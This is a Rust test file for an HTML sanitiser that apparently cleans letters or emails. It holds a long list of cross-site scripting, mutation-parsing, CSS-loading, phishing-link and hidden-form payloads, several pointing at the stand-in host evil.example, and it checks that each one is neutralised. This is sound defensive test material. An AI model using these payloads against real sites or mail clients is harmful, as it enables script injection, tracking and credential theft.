//! Attacks on whoever shows a letter: scripts, misread markup, styles that load or hide, addresses
//! in disguise. None is compared with an expected text; what comes out must obey the rules, read
//! the same to a browser's parser, and stay as it is when it is cleaned again.

use ammonia::Builder;

use super::{illustrate, rules, sanitize, to_text};

const ATTACKS: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script\x0c>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=\"https://evil.example/x.js\"></script>",
    "<script>alert(1)//",
    "<script><!--<script></script>--><img src=x onerror=alert(1)>",
    "<script type=\"text/plain\"><!--</script><img src=x onerror=alert(1)>-->",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u{feff}<script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Events.
    "<img src=x onerror=alert(1)>",
    "<img src=cid:x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x' ONERROR = 'alert(1)'>",
    "<img src=x onerror&#61;alert(1)>",
    "<body onload=alert(1)>",
    "<body/onload=alert(1) style=color:red>",
    "<p onmouseover=\"alert(1)\">x</p>",
    "<a href=https://a.example onclick=alert(1)>x</a>",
    "<div style=\"color:red\" onpointerenter=alert(1)>x</div>",
    "<table background=javascript:alert(1) onfocus=alert(1) tabindex=1><td>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<isindex onmouseover=alert(1)>",
    "<p =\"<img src=x onerror=alert(1)>\">x",
    "<p a='><img src=x onerror=alert(1)>",
    "<p title=\"'><img src=x onerror=alert(1)>\">x</p>",
    "<abbr title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</abbr>",
    "<img alt=\"&quot; onerror=&quot;alert(1)\" src=x>",
    "<img alt='\"><script>alert(1)</script>'>",
    "<img alt=\"`onerror=alert(1)\" src=x>",
    // Links.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x01\x02javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"\u{ad}javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://a.example/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"filesystem:https://a.example/x\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"ms-word:ofe|u|https://evil.example/x.docx\">x</a>",
    "<a href=\"search-ms:query=x&crumb=location:\\\\evil.example\">x</a>",
    "<a href=\"\\\\evil.example\\share\">x</a>",
    "<a href=\"smb://evil.example/x\">x</a>",
    "<a href=https://a.example target=_top>x</a>",
    "<a href='https://a.example/\"><img src=x onerror=alert(1)>'>x</a>",
    "<a href=\"https://a.example/'onclick='alert(1)\">x</a>",
    "<a href=\"https://a.example/`onclick=alert(1)\">x</a>",
    "<a href=\"https://a.example/\u{2028}x\">x</a>",
    "<a href=\"https://bank.example@evil.example/\">x</a>",
    "<a href=\"https://bank.example%2F@evil.example/\">x</a>",
    "<a href=\"https://bank.example\\@evil.example/\">bank.example</a>",
    "<a href=\"https:/\\evil.example\">bank.example</a>",
    "<a href=\"https://evil。example\">bank.example</a>",
    "<a href=\"https://\u{ff45}vil.example\">bank.example</a>",
    "<a href=\"https://b\u{430}nk.example\">bank.example</a>",
    "<a href=\"https://bank.example\u{2044}x.evil.example\">bank.example</a>",
    "<a href=\"https://[::1%25x]/\">x</a>",
    "<a href=\"https://evil.example\">bank<wbr>.exa<small>mple</small></a>",
    "<a href=\"https://evil.example\">\u{202e}elpmaxe.knab//:sptth</a>",
    "<bdo dir=rtl><a href=\"https://evil.example\">elpmaxe.knab</a></bdo>",
    "<a href=\"https://evil.example\"><table><td>192.0.2.7<td>[::1]</table></a>",
    "<a href=\"https://evil.example:80x/\">x</a>",
    "<a href=\"mailto:a@b.example?bcc=spy@evil.example&attach=/etc/passwd\">x</a>",
    "<a href=\"mailto:a@b.example%0d%0aBcc:x@evil.example\">x</a>",
    "<a href=\"tel:*21*123#\">x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=https://a.example ping=https://evil.example>x</a>",
    "<area href=javascript:alert(1)>",
    "<a href=\"https://a.example\"><a href=\"https://evil.example\">x</a></a>",
    "<a href=https://evil.example><table><td><a href=https://a.example>bank.example",
    // Loads.
    "<img src=https://evil.example/p.gif width=1 height=1>",
    "<img src=//evil.example/p.gif>",
    "<img srcset=\"https://evil.example/1 1x\" src=cid:x>",
    "<img src=cid:x lowsrc=https://evil.example/1 dynsrc=https://evil.example/2>",
    "<img src=\"cid:x\" usemap=#m longdesc=https://evil.example/1>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=\"data:image/png;base64,x&quot; onerror=&quot;alert(1)\">",
    "<img src=\"cid:x&quot;onerror=alert(1)\">",
    "<image src=https://evil.example/p.gif>",
    "<picture><source srcset=https://evil.example/1><img src=x></picture>",
    "<video poster=https://evil.example/1 src=https://evil.example/2></video>",
    "<input type=image src=https://evil.example/1>",
    "<table background=https://evil.example/1><tr background=x><td background=https://evil.example/2>x",
    "<body background=https://evil.example/1>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<base href=https://evil.example/><a href=/x>x</a>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<meta http-equiv=Set-Cookie content=x=y>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.example/x.swf><param name=x></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x archive=https://evil.example/x.jar>x</applet>",
    "<bgsound src=https://evil.example/x.wav>",
    "<ilayer src=https://evil.example/>x</ilayer>",
    "<layer src=https://evil.example/>x</layer>",
    "<xml src=https://evil.example/x.xml id=x></xml>",
    "<portal src=https://evil.example></portal>",
    "<q cite=https://evil.example>x</q><blockquote cite=javascript:alert(1)>y</blockquote>",
    "<del cite=https://evil.example>x</del>",
    // Styles.
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/1)}</style>",
    "<style>a[href^=x]{background:url(https://evil.example/x)}",
    "<p style=\"background:url(https://evil.example/1)\">x</p>",
    "<p style=\"background:u\\72l(https://evil.example/1)\">x</p>",
    "<p style=\"background:u/**/rl(https://evil.example/1)\">x</p>",
    "<p style=\"color:red;background-image:url('https://evil.example/1')\">x</p>",
    "<p style=\"background:image-set('https://evil.example/1' 1x)\">x</p>",
    "<p style=\"list-style:url(https://evil.example/1);cursor:url(x);content:url(x)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"wid\\th:exp/**/ression(alert(1))\">x</p>",
    "<p style=\"behavior:url(#default#x);-moz-binding:url(x#y)\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</p>",
    "<p style=\"margin-top:-500px;margin:-9px\">x</p>",
    "<p style=\"text-indent:-9999px;transform:scale(0);clip:rect(0 0 0 0)\">x</p>",
    "<p style=\"display:none\">x</p><p style=\"visibility:hidden;opacity:0\">y</p>",
    "<p style=\"font-size:0\">x</p><p style=\"font-size:0.01em;color:transparent\">y</p>",
    "<p style=\"padding-top:-1px;width:-5px;border-width:-1px\">x</p>",
    "<p style=\"padding:9999999px;width:99999999999999999999px;font-size:5000%\">x</p>",
    "<p style=\"color:red}</style><script>alert(1)</script>\">x</p>",
    "<p style=\"color:&quot;><script>alert(1)</script>\">x</p>",
    "<p style='color:red;\" onclick=\"alert(1)'>x</p>",
    "<p style=\"color:var(--x);--x:url(x)\">x</p>",
    "<p style=\"font-family:'x\\27;background:url(x)'\">x</p>",
    "<p style=\"animation:x 1s;transition:all 1s\">x</p>",
    "<p style=\"color\0:red;co\u{130}lor:red\">x</p>",
    "<div style=\"<!--\">x</div><div title=\"-->\">y</div>",
    "<font color=\"red;background:url(x)\" size=99>x</font>",
    "<table bgcolor=\"url(x)\" width=\"expression(1)\"><td>x",
    // Forms and names.
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form id=x></form><button form=x formaction=https://evil.example>y</button>",
    "<input type=hidden name=csrf><textarea name=x></textarea><label for=x>y</label>",
    "<p id=main class=\"text quoted\" name=x slot=y is=z contenteditable accesskey=a>x</p>",
    "<a id=defaultView name=x href=https://a.example>x</a>",
    "<dialog open>x</dialog><slot>y</slot><keygen>",
    // Markup that parsers read differently.
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><use href=data:image/svg+xml;base64,x>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea><textarea></textarea x=y><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<!-- --\n><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![CDATA[x]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>&y;",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)>\"></comment>",
    "</p></br></ style onload=alert(1)></div><img src=x onerror=alert(1)",
    "<b <script>alert(1)</script>0",
    "<a href=\"https://a.example\"\u{a0}onclick=alert(1)>x</a>",
    "<div><table><div><a><table></div><p>x<td>y<p>z</table>",
    "<a href=https://a.example><div><p></a><table><a href=https://b.example><tr>x<caption>y",
    "<p><table><p></table><ul><dd><li><p><ol></ul><h1><h2></h1><blockquote></p>",
    "<b><i><u><s><table><b><td><i></b></td></i></table></u>",
    "<pre>\r\n\r\n<p>x</pre><pre>\n\r\n\r\nx</pre>",
    "<a href=https://m\u{fc}ller.example>here</a><a href=https://m%C3%BCller.example>there.</a>",
    "<pre>\n\n<b>\nx</pre><pre><!-- -->\nx</pre><pre></pre>\nx",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;&#60;img src=x onerror=alert(1)&#62;&LT;b&GT;&#x3c;",
];

#[test]
fn no_attack_gets_through() {
    assert!(ATTACKS.len() >= 120);
    for attack in ATTACKS {
        assert_safe(attack);
        // Inside of what may be open already, and cut off at any place.
        for around in
            ["<table><tr>", "<svg><desc>", "<a href=https://a.example><p>", "<pre>", "<!--x-->"]
        {
            assert_safe(&format!("{around}{attack}"));
        }
        for (at, _) in attack.char_indices().step_by(3) {
            assert_safe(&attack[..at]);
            assert_safe(&attack[at..]);
        }
    }
    let all = ATTACKS.concat();
    assert_safe(&all);
    assert_safe(&ATTACKS.iter().rev().copied().collect::<String>());
}

fn assert_safe(html: &str) {
    let safe = sanitize(html);
    let tags = rules::check(&safe).unwrap_or_else(|fault| panic!("{fault}\nin {safe}\nof {html}"));
    assert_eq!(sanitize(&safe), safe, "cleaned twice: {html}");
    assert_eq!(tags_as_a_browser_sees_them(&safe), tags, "{safe}\nof {html}");
    assert_eq!(illustrate(&safe, &mut |_| None).html.matches("src=").count(), text_sources(&safe));
    to_text(html);
}

/// How often `src=` is mere text.
fn text_sources(safe: &str) -> usize {
    safe.matches("src=").count() - safe.matches("<img src=\"").count()
}

/// The tags of a document after a parser like that of a browser has built its tree and written it.
/// It is set to take away nothing that may occur, so it changes only what was not well formed.
fn tags_as_a_browser_sees_them(safe: &str) -> Vec<String> {
    let names: Vec<&str> = rules::ELEMENTS.split_ascii_whitespace().collect();
    let written = Builder::empty().tags(names.into_iter().collect()).clean(safe).to_string();
    let tags = written.split('<').skip(1);
    tags.filter_map(|rest| rest.split(['>', ' ']).next()).map(str::to_owned).collect()
}

#[test]
fn the_rules_find_what_is_wrong() {
    for html in [
        "<script>",
        "<p>",
        "</p>",
        "<p onclick=\"x\"></p>",
        "<p style=\"width:expression(1)\"></p>",
        "<p style=\"position:fixed\"></p>",
        "<p style=\"font-size:0px\"></p>",
        "<p title=x></p>",
        "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\"></a>",
        "<a href=\"https://a@b.example\" rel=\"noopener noreferrer nofollow\" target=\"_blank\"></a>",
        "<a href=\"https://b.example\"></a>",
        "<img src=\"https://a.example\">",
        "<img src=\"data:image/svg+xml;base64,x\">",
        "a > b",
        "&nbsp;",
    ] {
        assert!(rules::check(html).is_err(), "{html}");
    }
}

#[test]
fn words_that_grow_too_long_by_escaping_are_left_out_at_once() {
    for quotes in [100, 300, 400, 1_500, 3_000] {
        let safe = sanitize(&format!("<img alt='{}'>", "\"".repeat(quotes)));
        assert_eq!(sanitize(&safe), safe, "{quotes}");
        assert_eq!(safe.contains("alt"), quotes < 330, "{quotes}");
    }
}
